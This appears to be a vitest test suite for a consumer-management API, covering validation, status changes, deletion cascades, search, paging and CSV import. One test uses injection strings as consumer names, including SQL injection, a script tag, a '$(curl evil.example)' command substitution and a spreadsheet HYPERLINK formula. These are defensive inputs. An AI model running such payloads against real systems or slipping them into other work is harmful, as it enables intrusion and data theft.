import { afterAll, beforeAll, describe, expect, it } from 'vitest'

import type { TestControlPlane } from '../test/control-plane.ts'
import { startTestControlPlane } from '../test/control-plane.ts'
import { consumerBody, contractBody, make, unique } from '../test/seed.ts'

let plane: TestControlPlane
let call: TestControlPlane['call']

beforeAll(async () => {
  plane = await startTestControlPlane()
  call = await plane.as({ roles: ['tenant-admin'], tenant: 'default' })
})
afterAll(() => plane.stop())

const PATH = '/v1/consumers/default'
const list = (query: string) => call(`${PATH}?${query}`)

describe('a consumer', () => {
  it("is the runbook's body, and is found by its e-mail", async () => {
    const email = `${unique('their')}@email.com`
    const reply = await call(PATH, { body: consumerBody({ email }) })
    expect(reply.status).toBe(201)
    expect(reply.body).toMatchObject({
      tenant_id: 'default',
      consumer_metadata: { plan: 'starter', contact: 'Alice' },
      company: '',
      status: 'active',
      subscription_count: 0,
    })
    const found = await list(`email=${email.toUpperCase()}`)
    expect(found.body.items).toEqual([reply.body])
    expect((await list(`email=${email.slice(1)}`)).body.total).toBe(0)
  })

  it('has an external id of its own in its tenant', async () => {
    const body = consumerBody()
    await make(call, PATH, body)
    const twice = await call(PATH, { body })
    expect([twice.status, twice.body.errors[0].pointer]).toEqual([409, '/external_id'])
    const admin = await plane.as({ roles: ['cpi-admin'] })
    expect((await admin('/v1/consumers/acme', { body })).status).toBe(201)
  })

  it.each([
    `'; drop table consumers; --`,
    `<script>alert(1)</script>`,
    `$(curl evil.example)`,
    `=HYPERLINK("http://evil")`,
    `{{ query "up" }}`,
    `"} or up{a="`,
    `\u202Egnp.exe`,
    `名前 – Ünïcödé 😀`,
    `constructor`,
    `%_\\%`,
    `a`.repeat(255),
  ])('may be called %j: it comes back as it was sent, and is found by it', async (name) => {
    const made = await call(PATH, { body: consumerBody({ name, description: name }) })
    expect([made.status, made.body.name, made.body.description]).toEqual([201, name, name])
    const found = await list(`search=${encodeURIComponent(name.slice(0, 200))}`)
    expect(found.body.items.map(({ id }: { id: string }) => id)).toContain(made.body.id)
  })

  it.each([
    ['name', ' \t'],
    ['name', 'a'.repeat(256)],
    ['email', 'nobody'],
    ['email', 'a b@c.d'],
    ['external_id', 'a b'],
    ['external_id', ''],
    ['company', 7],
    ['consumer_metadata', []],
  ])('may not have %s %j', async (field, value) => {
    const reply = await call(PATH, { body: consumerBody({ [field]: value }) })
    expect(reply.status).toBe(422)
    expect(reply.body.errors[0].pointer).toBe(`/${field}`)
  })

  it('is active, suspended or blocked, and only moves as the contract says', async () => {
    const { id } = await make(call, PATH, consumerBody())
    const step = async (name: string, reason?: string) => {
      const body = reason === undefined ? undefined : { reason }
      const reply = await call(`${PATH}/${id}/${name}`, { method: 'POST', body })
      return reply.status === 200 ? [reply.body.status, reply.body.status_reason] : reply.status
    }
    expect(await step('activate')).toBe(409)
    expect(await step('suspend', 'unpaid')).toEqual(['suspended', 'unpaid'])
    expect(await step('suspend')).toBe(409)
    expect(await step('block')).toEqual(['blocked', null])
    expect(await step('suspend')).toBe(409)
    expect(await step('block')).toBe(409)
    expect(await step('activate')).toEqual(['active', null])
    expect(await step('block', 'fraud')).toEqual(['blocked', 'fraud'])
    const empty = await call(`${PATH}/${id}/activate`, { body: { reason: ' ' } })
    expect(empty.status).toBe(422)
  })

  it('takes its subscriptions and keys with it, and gives its external id free', async () => {
    const body = consumerBody()
    const { id } = await make(call, PATH, body)
    const contract = await make(call, '/v1/contracts', contractBody('default'))
    const { id: subscription } = await make(call, '/v1/subscriptions', {
      consumer_id: id,
      api_id: contract.id,
      tenant_id: 'default',
    })
    expect((await call(`${PATH}/${id}`, { method: 'DELETE' })).status).toBe(204)
    expect((await call(`${PATH}/${id}`)).status).toBe(404)
    expect((await call(`/v1/subscriptions/${subscription}`)).body.status).toBe('revoked')
    const keys = await plane.services.db
      .selectFrom('keys')
      .select('revoked')
      .where('subscription_id', '=', subscription)
      .execute()
    expect(keys).toEqual([{ revoked: true }])
    const touched = await plane.services.db
      .selectFrom('gateway_changes')
      .select('kind')
      .where('entity_id', 'in', [id, subscription])
      .execute()
    expect(new Set(touched.map(({ kind }) => kind))).toEqual(new Set(['consumer', 'subscription']))
    expect((await call(PATH, { body })).status).toBe(201)
  })
})

describe('the list of consumers', () => {
  it('is searched over name, e-mail, external id, company and the key', async () => {
    const mark = unique('needle')
    const fields = ['name', 'company', 'external_id'] as const
    for (const field of fields) await make(call, PATH, consumerBody({ [field]: `x-${mark}-y` }))
    await make(call, PATH, consumerBody({ email: `${mark}@b.c` }))
    await make(call, PATH, consumerBody())
    expect((await list(`search=${mark.toUpperCase()}`)).body.total).toBe(4)
    const contract = await make(call, '/v1/contracts', contractBody('default'))
    const consumer = await make(call, PATH, consumerBody())
    const { id, ...issued } = await make(call, '/v1/subscriptions', {
      consumer_id: consumer.id,
      api_id: contract.id,
      tenant_id: 'default',
    })
    const prefix = issued['api_key_prefix'] as unknown as string
    const found = (await list(`search=${prefix}`)).body.items
    expect(found.map(({ id: one }: { id: string }) => one)).toContain(consumer.id)
    await call(`/v1/subscriptions/${id}/rotate-key`, { method: 'POST' })
    expect((await list(`search=${prefix}`)).body.total).toBeGreaterThan(0)
  })

  it('takes % and _ as characters', async () => {
    const mark = unique('rate')
    await make(call, PATH, consumerBody({ name: `${mark} 100%` }))
    await make(call, PATH, consumerBody({ name: `${mark} 1000` }))
    expect((await list(`search=${encodeURIComponent(`${mark} 100%`)}`)).body.total).toBe(1)
    expect((await list(`search=${encodeURIComponent(`${mark}_100`)}`)).body.total).toBe(0)
  })

  it.each([
    ['name', 1],
    ['-name', 2],
    ['email', 3],
    ['-company,name', 5],
    ['created_at', 7],
    ['-external_id', 40],
  ])('sorted by %s has the same order on pages of %i as on one', async (sort, size) => {
    const mark = unique('paged')
    for (let n = 0; n < 9; n += 1)
      await make(call, PATH, consumerBody({ name: `${mark} ${n % 4}`, company: `${n % 2}` }))
    const at = `search=${mark}&sort=${sort}`
    const idsOf = async (query: string) =>
      (await list(query)).body.items.map(({ id }: { id: string }) => id)
    const whole = await idsOf(`${at}&page_size=50`)
    const pages: string[] = []
    for (let page = 1; page <= Math.ceil(9 / size); page += 1)
      pages.push(...(await idsOf(`${at}&page=${page}&page_size=${size}`)))
    expect(pages).toEqual(whole)
    expect(new Set(pages).size).toBe(9)
    expect(await idsOf(`${at}&page=${Math.ceil(9 / size) + 1}&page_size=${size}`)).toEqual([])
  })

  it('shows every row once over its pages, also where they sort alike', async () => {
    const mark = unique('page')
    for (let n = 0; n < 25; n++) await make(call, PATH, consumerBody({ name: mark }))
    const ids: string[] = []
    for (const page of [1, 2, 3, 4]) {
      const { body } = await list(`search=${mark}&sort=name&page=${page}&page_size=10`)
      expect(body.total).toBe(25)
      ids.push(...body.items.map(({ id }: { id: string }) => id))
    }
    expect([ids.length, new Set(ids).size]).toEqual([25, 25])
  })
})

describe('the import', () => {
  const load = (csv: string) =>
    call(`${PATH}/bulk`, { body: csv, headers: { 'Content-Type': 'text/csv' } })

  it('creates every valid row and tells the others by their line', async () => {
    const mark = unique('bulk')
    const taken = consumerBody()
    await make(call, PATH, taken)
    const reply = await load(
      [
        '\uFEFFexternal_id,name,email,company,description',
        `${mark}-1,"Müller, ""Söhne""",a@b.c,ACME,"two`,
        `lines"`,
        `${mark}-2,No Mail,nobody,,`,
        `${mark}-1,Again,a@b.c,,`,
        '',
        `${taken.external_id},Taken,a@b.c,,`,
        `${mark}-3,Short,a@b.c`,
        `${mark}-4,=cmd(),a@b.c,,`,
      ].join('\r\n'),
    )
    expect(reply.body).toMatchObject({ total: 6, created: 2, failed: 4 })
    const errors: { row: number; detail: string }[] = reply.body.errors
    expect(errors.map(({ row }) => row)).toEqual([4, 5, 7, 8])
    expect(errors[0]?.detail).toMatch(/^email: /)
    expect(errors[1]?.detail).toMatch(/line 2/)
    const made = (await list(`search=${mark}-1`)).body.items[0]
    expect(made).toMatchObject({ name: 'Müller, "Söhne"', company: 'ACME', status: 'active' })
    expect(made.description.split(/\r?\n/)).toEqual(['two', 'lines'])
    const audited = await plane.services.db
      .selectFrom('audit_log')
      .select('resource_id')
      .where('action', '=', 'import')
      .execute()
    expect(audited).toHaveLength(2)
  })

  it('takes the columns in any order and needs three of them', async () => {
    const mark = unique('order')
    const reordered = await load(`email,external_id,name\na@b.c,${mark},Reordered\n`)
    expect(reordered.body).toMatchObject({ total: 1, created: 1 })
    for (const header of ['external_id,name', 'external_id,name,email,phone', 'name,name,email'])
      expect([header, (await load(`${header}\na,b,c@d\n`)).status]).toEqual([header, 422])
    expect((await load('external_id,name,email\n"a,b,c@d\n')).status).toBe(422)
    expect((await call(`${PATH}/bulk`, { body: '{}' })).status).toBe(415)
  })

  it('takes 5,000 rows at once', async () => {
    const mark = unique('many')
    const rows = Array.from({ length: 5_000 }, (_, n) => `${mark}-${n},Consumer ${n},c${n}@x.y`)
    const reply = await load(`external_id,name,email\n${rows.join('\n')}\n`)
    expect(reply.body).toEqual({ total: 5_000, created: 5_000, failed: 0, errors: [] })
    expect((await list(`search=${mark}-`)).body.total).toBe(5_000)
  })
})
